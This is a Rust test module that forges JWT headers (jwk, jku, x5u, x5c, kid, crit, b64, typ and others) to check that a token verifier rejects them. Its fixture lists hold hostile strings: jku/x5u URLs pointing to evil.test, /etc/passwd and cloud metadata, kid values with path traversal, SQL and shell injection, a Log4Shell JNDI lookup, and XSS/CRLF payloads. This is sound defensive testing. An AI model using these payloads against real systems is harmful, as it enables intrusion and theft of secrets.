//! Header members that would choose the key, its source or the meaning of the token (RFC 7515 section 4.1, RFC 8725).

use serde_json::{Value, json};

use super::check::Cases;
use super::confusion::x5c;
use super::forge::{Forge, encode, with, without};
use crate::harness::Issuer;

pub(super) fn cases(forge: &Forge<'_>, cases: &mut Cases) {
    embedded(forge, cases);
    key_ids(forge, cases);
    extensions(forge, cases);
    kinds(forge, cases);
}

/// Keys within the token, or linked by it: signed by whoever they belong to, and by the issuer itself.
fn embedded(forge: &Forge<'_>, cases: &mut Cases) {
    for stranger in [Issuer::rs256(), Issuer::es256(), Issuer::eddsa(), Issuer::hs256()] {
        let jwk = &stranger.jwks()["keys"][0];
        let mut members = vec![
            ("jwk", jwk.clone()),
            ("jwk", without(jwk.clone(), "kid")),
            ("jwk", stranger.jwks()),
            ("jwk", jwk.to_string().into()),
            ("jku", "https://evil.test/jwks.json".into()),
            ("x5u", "https://evil.test/chain.pem".into()),
        ];
        if stranger.secret().is_none() {
            let (certificate, _) = x5c(&stranger);
            members.push(("x5c", json!([certificate])));
            members.push(("x5c", certificate.into()));
        }
        for (name, value) in members {
            for kid in [json!(forge.victim.key_id), json!(stranger.key_id), Value::Null] {
                let header = with(with(forge.header(), "alg", stranger.algorithm), name, value.clone());
                let header = if kid.is_null() { without(header, "kid") } else { with(header, "kid", kid) };
                let token = stranger.sign_text(header.to_string(), forge.claims().to_string());
                cases.malformed(format!("{}'s key as {name} with kid {:?}", stranger.algorithm, header["kid"]), token);
            }
        }
    }
    for (name, value) in [
        ("jwk", Value::Null),
        ("jwk", json!({})),
        ("jwk", json!({"kty": "oct", "k": ""})),
        ("jwk", json!({"kty": "oct", "k": encode("secret")})),
        ("jwk", forge.victim.jwks()["keys"][0].clone()),
        ("jku", json!("")),
        ("jku", Value::Null),
        ("jku", json!(forge.victim.url)),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("jku", json!("http://127.0.0.1:8091/metrics")),
        ("x5u", Value::Null),
        ("x5u", json!("")),
        ("x5u", json!("file:///proc/self/environ")),
        ("x5c", Value::Null),
        ("x5c", json!([])),
        ("x5c", json!([""])),
        ("x5c", json!(["AA", "BB"])),
        ("x5c", json!({})),
        ("x5t", Value::Null),
        ("x5t", json!(1)),
        ("x5t", json!([])),
        ("x5t", json!({})),
        ("x5t#S256", Value::Null),
        ("x5t#S256", json!(true)),
        ("x5t#S256", json!(["a"])),
    ] {
        cases.malformed(format!("{name} {value}"), forge.head(name, value));
    }
}

/// `kid` names a key of this issuer, or none at all: it is no path, no URL and no query.
fn key_ids(forge: &Forge<'_>, cases: &mut Cases) {
    let id = if forge.nameless { "" } else { forge.victim.key_id };
    let mut names: Vec<String> = [
        "unknown",
        " ",
        "*",
        ".",
        "/",
        "null",
        "0",
        "default",
        "/dev/null",
        "../../../../../../dev/null",
        "..\\..\\..\\windows\\win.ini",
        "/proc/sys/kernel/randomize_va_space",
        "/etc/passwd",
        "file:///dev/null",
        "http://evil.test/key.pem",
        "https://169.254.169.254/",
        "data:application/json;base64,e30",
        "k1' OR '1'='1",
        "x' UNION SELECT 'aGVsbG8';--",
        "k1; DROP TABLE keys",
        "$(id)",
        "`id`",
        "| cat /etc/passwd",
        "%00",
        "\0",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "<script>",
        "\r\nSet-Cookie: a=b",
        "\u{feff}",
        "\u{202e}1k",
        "\u{1f511}",
    ]
    .map(str::to_owned)
    .into();
    names.push("k".repeat(10 * 1024));
    names.extend(["\0", " ", "/", "\n", "."].map(|end| format!("{id}{end}")));
    names.extend(["\0", " ", "./", "../"].map(|start| format!("{start}{id}")));
    if !forge.nameless {
        names.push(String::new());
        names.extend([id.to_uppercase(), id[..id.len() - 1].to_owned(), format!("{id}{id}")]);
    }
    names.extend(forge.others.iter().filter(|other| other.key_id != id).map(|other| other.key_id.to_owned()));
    names.retain(|name| forge.nameless || name != id);
    for name in names {
        let shown: String = name.chars().take(40).collect();
        cases.bearer(format!("kid {shown:?}"), forge.head("kid", name), "unknown_key");
    }
    for other in forge.keys.iter().filter(|other| other.key_id != forge.victim.key_id) {
        let what = format!("kid of the same issuer's {} key", other.algorithm);
        cases.bearer(&what, forge.head("kid", other.key_id), "alg_not_allowed");
        let header = with(with(forge.header(), "kid", other.key_id), "alg", other.algorithm);
        cases.bearer(format!("{what} and its alg"), forge.signed(&header, &forge.claims()), "bad_signature");
    }
    for value in [Value::Null, json!(1), json!(0), json!(true), json!([]), json!([id]), json!({}), json!({"kid": id})] {
        cases.malformed(format!("kid {value}"), forge.head("kid", value));
    }
    let good = forge.header().to_string();
    let text = |extra: &str| forge.victim.sign_text(good.replacen('{', extra, 1), forge.claims().to_string());
    cases.malformed("kid with half a surrogate", text(r#"{"kid":"\ud800","#));
    cases.malformed("kid and kid in another spelling", text(r#"{"\u006bid":"a","kid":"a","#));
}

/// What has to be understood and is not (`crit`), and what changes what is signed.
fn extensions(forge: &Forge<'_>, cases: &mut Cases) {
    for value in [
        Value::Null,
        json!([]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["b64"]),
        json!(["x-note"]),
        json!(["unknown"]),
        json!([null]),
        json!([""]),
        json!([1]),
        json!("exp"),
        json!(""),
        json!(false),
        json!(true),
        json!(0),
        json!({}),
        json!({"exp": true}),
        json!(["crit"]),
        json!(["exp", "exp"]),
    ] {
        cases.malformed(format!("crit {value}"), forge.head("crit", value));
    }
    for value in [json!(false), json!(true), Value::Null, json!("false"), json!(0), json!([])] {
        cases.malformed(format!("b64 {value}"), forge.head("b64", value.clone()));
        let header = with(with(forge.header(), "crit", json!(["b64"])), "b64", value.clone());
        cases.malformed(format!("b64 {value} and crit"), forge.signed(&header, &forge.claims()));
    }
    // RFC 7797: the payload stands unencoded in what is signed.
    let header = encode(with(with(forge.header(), "crit", json!(["b64"])), "b64", false).to_string());
    let message = format!("{header}.{}", forge.claims());
    let signature = encode(forge.victim.signature(message.as_bytes()));
    cases.malformed("an unencoded payload", format!("{message}.{signature}"));
    cases.malformed(
        "an unencoded payload, encoded afterwards",
        format!("{header}.{}.{signature}", encode(forge.claims().to_string())),
    );
    cases.malformed("an unencoded payload, detached", format!("{header}..{signature}"));
    for (name, value) in [
        ("zip", json!("DEF")),
        ("zip", Value::Null),
        ("enc", json!("A256GCM")),
        ("enc", Value::Null),
        ("epk", json!({})),
        ("epk", Value::Null),
        ("apu", json!("QWxpY2U")),
        ("apv", json!("Qm9i")),
        ("iv", json!("AAAA")),
        ("tag", json!("AAAA")),
        ("p2s", json!("AAAA")),
        ("p2c", json!(1_000_000_000)),
        ("cty", json!("JWT")),
        ("cty", json!("jwt")),
        ("cty", json!("application/jwt")),
        ("cty", json!("JOSE")),
        ("cty", json!("text/plain")),
        ("cty", json!("")),
        ("cty", Value::Null),
        ("cty", json!(["JWT"])),
        ("cty", json!(1)),
        // Claims that a header repeats (RFC 7519 section 5.3) and that say something else there.
        ("iss", json!("https://evil.test/")),
        ("iss", Value::Null),
        ("iss", json!([forge.victim.url])),
        ("sub", json!("somebody else")),
        ("sub", Value::Null),
        ("sub", json!(1)),
        ("aud", json!("shopping")),
        ("aud", json!(["oms"])),
        ("aud", Value::Null),
        ("exp", json!(9_999_999_999_i64)),
        ("nbf", json!(0)),
        ("iat", json!(0)),
        ("jti", json!("another")),
    ] {
        cases.malformed(format!("header member {name} {value}"), forge.head(name, value));
    }
}

/// T19: what is signed for another purpose, and says so, is no access token.
fn kinds(forge: &Forge<'_>, cases: &mut Cases) {
    for kind in [
        "doorward-assertion+jwt",
        "application/doorward-assertion+jwt",
        "DOORWARD-ASSERTION+JWT",
        "Application/Doorward-Assertion+JWT",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "id_token",
        "id+jwt",
        "refresh+jwt",
        "rt+jwt",
        "JWS",
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "kb+jwt",
        "vc+sd-jwt",
        "token-introspection+jwt",
        "client-authentication+jwt",
        "oauth-authz-req+jwt",
        "entity-statement+jwt",
        "",
        " ",
        "at+jwt ",
        " at+jwt",
        "at+jwt\0",
        "at+jwt;charset=utf-8",
        "at jwt",
        "at-jwt",
        "at+JWT, JWT",
        "application/",
        "application/application/at+jwt",
        "text/at+jwt",
        "at+jwt\u{212a}",
        "jwt\0",
        "JWT ",
        "\u{ff2a}WT",
    ] {
        cases.malformed(format!("typ {kind:?}"), forge.head("typ", kind));
    }
    for value in [Value::Null, json!(1), json!(true), json!([]), json!(["at+jwt"]), json!({}), json!({"typ": "at+jwt"})]
    {
        cases.malformed(format!("typ {value}"), forge.head("typ", value));
    }
    if forge.own {
        for kind in ["JWT", "jwt", "application/jwt"] {
            cases.malformed(format!("typ {kind} of doorward's own"), forge.head("typ", kind));
        }
        cases.malformed("no typ of doorward's own", forge.signed(&without(forge.header(), "typ"), &forge.claims()));
    }
}
